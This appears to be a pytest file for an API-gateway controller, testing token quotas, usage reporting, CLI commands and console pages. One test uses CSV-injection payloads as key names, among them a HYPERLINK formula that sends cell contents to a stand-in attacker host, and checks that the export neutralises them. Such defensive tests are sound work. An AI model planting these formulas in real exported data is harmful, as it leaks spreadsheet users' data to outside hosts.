"""Token quotas on the key routes (create, PATCH), ``GET /usage``, the range parser, the
`appliance usage` / `keys update` commands and the console's Keys page usage."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from pathlib import Path

import httpx
import pytest
from fastapi import FastAPI, Header, HTTPException
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from controller.api.keys import keys_router
from controller.api.usage import usage_router
from controller.cli.main import _register, app
from controller.cli.usage_cmd import csv_cell
from controller.gateway.keystore import KeyStore
from controller.gateway.usage.report import RangeError, parse_range
from controller.gateway.usage.store import HourUsage, UsageStore, hour_of

H = {"Authorization": "Bearer ok"}
NOW = 1_800_001_800.0  # half past an hour


def require_admin(authorization: str = Header(default="")) -> None:
    if authorization != "Bearer ok":
        raise HTTPException(401, "admin only")


def client(store: KeyStore) -> TestClient:
    api = FastAPI()
    api.include_router(keys_router(require_admin, store=store))
    api.include_router(usage_router(require_admin, keys=store))
    return TestClient(api)


@pytest.mark.parametrize(
    ("field", "value"),
    [("tpm_limit", 0), ("tpm_limit", -5), ("tpd_limit", 10**11), ("tpd_limit", 1e23), ("tpm_limit", "lots"),
     # strict: never coerced (a `true` was once stored as a limit of 1, "5" as 5, 5.0 as 5)
     ("tpm_limit", True), ("tpd_limit", False), ("rpm_limit", True), ("max_concurrent", True),
     ("tpm_limit", "5"), ("rpm_limit", 5.0)],
)
def test_bad_quota_is_a_422_naming_the_field(tmp_path: Path, field: str, value: object) -> None:
    c = client(KeyStore(tmp_path / "k.db"))
    r = c.post("/keys", json={"name": "x", field: value}, headers=H)
    assert r.status_code == 422 and field in r.text
    created = c.post("/keys", json={"name": "y"}, headers=H).json()
    r = c.patch(f"/keys/{created['id']}", json={field: value}, headers=H)
    assert r.status_code == 422 and field in r.text


def test_quotas_set_at_create_changed_by_patch_and_listed(tmp_path: Path) -> None:
    store = KeyStore(tmp_path / "k.db")
    c = client(store)
    created = c.post("/keys", json={"name": "svc", "tpm_limit": 1000, "tpd_limit": 50_000}, headers=H).json()
    assert (created["tpm_limit"], created["tpd_limit"]) == (1000, 50_000)
    r = c.patch(f"/keys/{created['id']}", json={"tpm_limit": None, "tpd_limit": 20}, headers=H)
    assert r.status_code == 200 and (r.json()["tpm_limit"], r.json()["tpd_limit"]) == (None, 20)
    assert r.json()["rpm_limit"] is None  # not named: unchanged
    listed = c.get("/keys", headers=H).json()
    assert (listed[0]["tpm_limit"], listed[0]["tpd_limit"]) == (None, 20)
    assert c.patch("/keys/0123456789ab", json={"tpd_limit": 5}, headers=H).status_code == 404
    assert c.patch(f"/keys/{created['id']}", json={"bogus": 5}, headers=H).status_code == 422
    assert c.patch(f"/keys/{created['id']}", json={"tpd_limit": 5}).status_code == 401


def test_a_store_from_before_quotas_gains_the_columns(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    conn = sqlite3.connect(path)
    conn.executescript("CREATE TABLE keys (id TEXT PRIMARY KEY, name TEXT NOT NULL, key_sha256 TEXT"
                       " NOT NULL UNIQUE, created REAL NOT NULL, revoked REAL, rpm_limit INTEGER,"
                       " max_concurrent INTEGER);"
                       "INSERT INTO keys VALUES ('0123456789ab', 'old', 'ff', 1.0, NULL, 5, NULL);")
    conn.close()
    store = KeyStore(path)
    (old,) = store.list()
    assert (old.name, old.rpm_limit, old.tpm_limit) == ("old", 5, None)
    assert store.update("0123456789ab", {"tpd_limit": 7}).tpd_limit == 7


def _seed_usage(store: KeyStore) -> tuple[str, str]:
    a, _ = store.create("alice")
    b, _ = store.create("bob")
    h = hour_of(NOW)
    UsageStore(store.path.with_name("usage.sqlite3")).write({
        (a.id, h): HourUsage(3, 1, 100, 200, 1.5),
        (a.id, h - 3600): HourUsage(1, 0, 10, 20, 0.5),
        (b.id, h - 7200): HourUsage(2, 0, 1, 1, 0.1),
        (b.id, h - 40 * 86400): HourUsage(9, 9, 9, 9, 9.0),  # outside any default range
    })
    return a.id, b.id


def test_usage_rows_and_totals(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("controller.gateway.usage.report.time.time", lambda: NOW)
    store = KeyStore(tmp_path / "k.db")
    a, b = _seed_usage(store)
    c = client(store)
    assert c.get("/usage").status_code == 401
    out = c.get("/usage", headers=H).json()
    rows = [(r["key_name"], r["total_tokens"]) for r in out["rows"]]
    assert rows == [("bob", 2), ("alice", 30), ("alice", 300)]
    alice = {t["key_name"]: t for t in out["totals"]}["alice"]
    assert (alice["requests"], alice["errors"], alice["total_tokens"]) == (4, 1, 330)
    only = c.get("/usage", params={"key": "bob", "since": "90d"}, headers=H).json()
    assert {r["key_id"] for r in only["rows"]} == {b} and len(only["rows"]) == 2
    assert c.get("/usage", params={"key": a}, headers=H).json()["totals"][0]["key_name"] == "alice"


@pytest.mark.parametrize(
    ("params", "field"),
    [({"since": "yesterday"}, "since"), ({"since": "1h", "until": "2h"}, "since"),
     ({"until": "nan"}, "until"), ({"since": "20y"}, "since"), ({"key": "nobody"}, "key"),
     ({"since": "2999-01-01"}, "since")],
)
def test_bad_range_is_a_4xx_naming_the_field(tmp_path: Path, params: dict[str, str], field: str) -> None:
    c = client(KeyStore(tmp_path / "k.db"))
    r = c.get("/usage", params=params, headers=H)
    assert r.status_code == 422 and field in json.dumps(r.json())


def test_range_spellings() -> None:
    assert parse_range(None, None, NOW) == (NOW - 86400, NOW)
    assert parse_range("7d", None, NOW) == (NOW - 7 * 86400, NOW)
    assert parse_range("2027-01-15", "2027-01-15T06:00", NOW) == (1_799_971_200.0, 1_799_971_200.0 + 6 * 3600)
    assert parse_range("1799990000", "30m", NOW) == (1_799_990_000.0, NOW - 1800)
    with pytest.raises(RangeError, match="until"):
        parse_range(None, "inf", NOW)


def test_cli_usage_and_keys_update(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("controller.gateway.usage.report.time.time", lambda: NOW)
    _register()
    store = KeyStore(tmp_path / "keys.sqlite3")
    a, _ = _seed_usage(store)
    run = CliRunner().invoke
    r = run(app, ["usage", "--keys", str(store.path), "--json"])
    assert r.exit_code == 0, r.output
    totals = {t["key_name"]: t["total_tokens"] for t in json.loads(r.stdout)["totals"]}
    assert totals == {"alice": 330, "bob": 2}
    r = run(app, ["usage", "--keys", str(store.path), "--csv", "--key", "alice"])
    assert r.exit_code == 0 and r.stdout.splitlines()[0].startswith("hour_utc,key_id,key_name,requests")
    assert len(r.stdout.splitlines()) == 3
    r = run(app, ["usage", "--keys", str(store.path), "--since", "soon"])
    assert r.exit_code == 2 and "--since" in r.output
    r = run(app, ["keys", "update", a, "--tpm", "500", "--tpd", "0", "--keys", str(store.path)])
    assert r.exit_code == 0, r.output
    assert (store.get(a).tpm_limit, store.get(a).tpd_limit) == (500, None)
    r = run(app, ["keys", "list", "--keys", str(store.path)])
    assert "TOK/MIN" in r.stdout and re.search(r"alice .* 500 ", r.stdout)
    r = run(app, ["keys", "create", "--name", "q", "--tpd", "0", "--keys", str(store.path)])
    assert r.exit_code == 2 and "--tpd" in r.output


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+2", "-2+3", "@SUM(1)"])
def test_cli_usage_csv_neutralises_formula_key_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                      name: str) -> None:
    # OWASP CSV injection: a cell starting with = + - @ TAB CR gets a leading ' (read as text).
    monkeypatch.setattr("controller.gateway.usage.report.time.time", lambda: NOW)
    _register()
    store = KeyStore(tmp_path / "keys.sqlite3")
    k, _ = store.create(name)
    usage = UsageStore(store.path.with_name("usage.sqlite3"))
    usage.write({(k.id, hour_of(NOW)): HourUsage(1, 0, 1, 2, 0.5)})
    r = CliRunner().invoke(app, ["usage", "--keys", str(store.path), "--csv"])
    assert r.exit_code == 0, r.output
    [row] = list(csv.DictReader(io.StringIO(r.stdout)))
    assert row["key_name"] == "'" + name and row["key_id"] == k.id and row["total_tokens"] == "3"


def test_csv_cell_follows_owasp() -> None:
    # TAB and CR cannot start a key name (the key store refuses control characters), but the rule
    # is OWASP's whole list, for whatever text a row may carry.
    assert [csv_cell(v) for v in ("\tx", "\rx", "=1", "+1", "-1", "@1")] == [
        "'\tx", "'\rx", "'=1", "'+1", "'-1", "'@1"]
    plain = ("alice", "a=b", "", 0, -5, 1.5, None)
    assert [csv_cell(v) for v in plain] == list(plain)


async def test_console_keys_page_shows_usage_chart_and_quotas(tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    from controller.console.usage_views import usage_view

    store = KeyStore(tmp_path / "keys.sqlite3")
    _seed_usage(store)
    view = usage_view(store.path.with_name("usage.sqlite3"), store.list(), 1, now=NOW)
    assert "<svg" in view.chart and "alice" in view.chart and "bob" in view.chart
    assert view.totals[store.list()[0].id].total_tokens == 330
    empty = usage_view(tmp_path / "none.sqlite3", [], 7, now=NOW)
    assert empty.chart == "" and empty.totals == {} and empty.error is None
    # Through the real console pages (log-in, CSRF), with quotas in the form.
    from tests.unit.test_api import Rig
    from tests.unit.test_console import csrf_of, login

    monkeypatch.setenv("APPLIANCE_HOME", str(tmp_path))
    from controller import admin_token
    from tests.unit.test_api import TOKEN

    monkeypatch.delenv(admin_token.HASH_ENV, raising=False)
    admin_token.write_hash(tmp_path, TOKEN)
    rig = Rig(tmp_path)
    transport = httpx.ASGITransport(app=rig.app)
    async with httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1") as c:
        await login(c)
        form = {"name": "quota", "tpm_limit": "1000", "tpd_limit": "20000", "csrf": await csrf_of(c)}
        r = await c.post("/console/keys", data=form)
        assert r.status_code == 201 and "1,000/min" in r.text and "20,000/day" in r.text
        bad = await c.post("/console/keys", data={**form, "tpd_limit": "0", "csrf": await csrf_of(c)})
        assert bad.status_code == 422 and "tokens/day" in bad.text
        page = await c.get("/console/keys?days=7")
        assert page.status_code == 200 and 'id="usage"' in page.text
